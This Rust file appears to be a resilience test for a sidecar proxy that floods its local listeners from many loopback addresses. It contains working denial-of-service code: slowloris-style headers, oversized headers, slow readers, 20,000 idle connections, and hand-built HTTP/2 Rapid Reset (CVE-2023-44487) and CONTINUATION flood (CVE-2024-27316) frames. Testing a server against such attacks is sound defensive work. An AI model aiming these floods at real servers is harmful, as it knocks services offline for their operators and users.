//! Strangers, and an app gone wrong: every attack that a sidecar must bear, all at once, from many addresses of loopback.

use crate::online::Failed;
use std::future::Future;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout};

/// How many connections each kind has at a time.
const SLOW_HEADS: u32 = 500;
const SILENT: u32 = 500;
const BIG_HEADS: u32 = 4;
const RESETS: u32 = 4;
const CONTINUATIONS: u32 = 4;
const SLOW_READERS: u32 = 50;
const ENDLESS_HEADS: u32 = 50;
const IDLE: u32 = 20_000;
/// A source address has so few ports that this many connections come from each.
const PER_ADDRESS: u32 = 2_000;

/// Attacks the outbound listener and the inbound one until it is ended. Says how many connections idle once they do.
pub async fn attack(http: SocketAddr, web: SocketAddr) -> Result<(), Failed> {
    let many = |count: u32, what: fn(u32, SocketAddr) -> Doing, to: SocketAddr| {
        for n in 0..count {
            tokio::spawn(async move {
                loop {
                    // However one ends, the next begins, after a moment in which others come.
                    let _ = timeout(Duration::from_secs(120), what(n, to)).await;
                    sleep(Duration::from_millis(20)).await;
                }
            });
        }
    };
    many(SLOW_HEADS, |n, to| Box::pin(slow_head(n, to)), http);
    many(SILENT, |n, to| Box::pin(silent(n, to)), web);
    many(BIG_HEADS, |n, to| Box::pin(big_head(n, to)), http);
    many(RESETS, |n, to| Box::pin(resets(n, to)), http);
    many(CONTINUATIONS, |n, to| Box::pin(continuations(n, to)), http);
    many(SLOW_READERS, |n, to| Box::pin(slow_reader(n, to)), http);
    many(ENDLESS_HEADS, |n, to| Box::pin(endless_head(n, to)), http);
    let mut idle = Vec::new();
    for n in 0..IDLE {
        if let Ok(mut socket) = connect(n, http).await {
            // One request, so that it has been served, and then nothing.
            if socket
                .write_all(b"GET /idle HTTP/1.1\r\nhost: nobody\r\n\r\n")
                .await
                .is_ok()
            {
                idle.push(socket);
            }
        }
    }
    println!("{}", idle.len());
    std::future::pending::<()>().await;
    Ok(())
}

type Doing = std::pin::Pin<Box<dyn Future<Output = Result<(), Failed>> + Send>>;

async fn connect(n: u32, to: SocketAddr) -> Result<TcpStream, Failed> {
    let socket = TcpSocket::new_v4()?;
    // Closed by a reset: the kernel remembers an orderly end for a minute.
    socket.set_zero_linger()?;
    let [_, _, high, low] = (n / PER_ADDRESS + 2).to_be_bytes();
    socket.bind((Ipv4Addr::new(127, 7, high, low), 0).into())?;
    Ok(socket.connect(to).await?)
}

/// A head that never ends, a byte at a time.
async fn slow_head(n: u32, to: SocketAddr) -> Result<(), Failed> {
    let mut socket = connect(n, to).await?;
    socket
        .write_all(b"GET / HTTP/1.1\r\nhost: orders\r\nx: ")
        .await?;
    loop {
        socket.write_all(b"x").await?;
        sleep(Duration::from_millis(500)).await;
    }
}

/// A connection, and not a byte.
async fn silent(n: u32, to: SocketAddr) -> Result<(), Failed> {
    connect(n, to).await?.read_to_end(&mut Vec::new()).await?;
    Ok(())
}

/// A head larger than anybody takes.
async fn big_head(n: u32, to: SocketAddr) -> Result<(), Failed> {
    let mut socket = connect(n, to).await?;
    socket
        .write_all(b"GET / HTTP/1.1\r\nhost: orders\r\nx: ")
        .await?;
    for _ in 0..256 {
        socket.write_all(&[b'x'; 4096]).await?;
    }
    Ok(())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut bytes = length[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

const BEGINNING: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
/// HPACK from the static table: GET http://orders/.
const GET: &[u8] = b"\x82\x84\x86\x41\x06orders";

/// Streams begun and reset (CVE-2023-44487).
async fn resets(n: u32, to: SocketAddr) -> Result<(), Failed> {
    let mut socket = connect(n, to).await?;
    socket.write_all(BEGINNING).await?;
    for stream in (1..100_000).step_by(2) {
        let pair = [frame(1, 5, stream, GET), frame(3, 0, stream, &[0, 0, 0, 8])];
        socket.write_all(&pair.concat()).await?;
    }
    Ok(())
}

/// A head that is continued without end (CVE-2024-27316).
async fn continuations(n: u32, to: SocketAddr) -> Result<(), Failed> {
    let mut socket = connect(n, to).await?;
    socket.write_all(BEGINNING).await?;
    socket.write_all(&frame(1, 0, 1, GET)).await?;
    for _ in 0..100_000 {
        socket.write_all(&frame(9, 0, 1, b"\x00\x01x\x01y")).await?;
    }
    Ok(())
}

/// A big answer, read a byte a second.
async fn slow_reader(n: u32, to: SocketAddr) -> Result<(), Failed> {
    let mut socket = connect(n, to).await?;
    socket
        .write_all(b"GET /big HTTP/1.1\r\nhost: orders\r\n\r\n")
        .await?;
    while socket.read(&mut [0]).await? > 0 {
        sleep(Duration::from_secs(1)).await;
    }
    Ok(())
}

/// What is answered by a server whose head never ends.
async fn endless_head(n: u32, to: SocketAddr) -> Result<(), Failed> {
    let mut socket = connect(n, to).await?;
    socket
        .write_all(b"GET /endless HTTP/1.1\r\nhost: orders\r\n\r\n")
        .await?;
    socket.read_to_end(&mut Vec::new()).await?;
    Ok(())
}
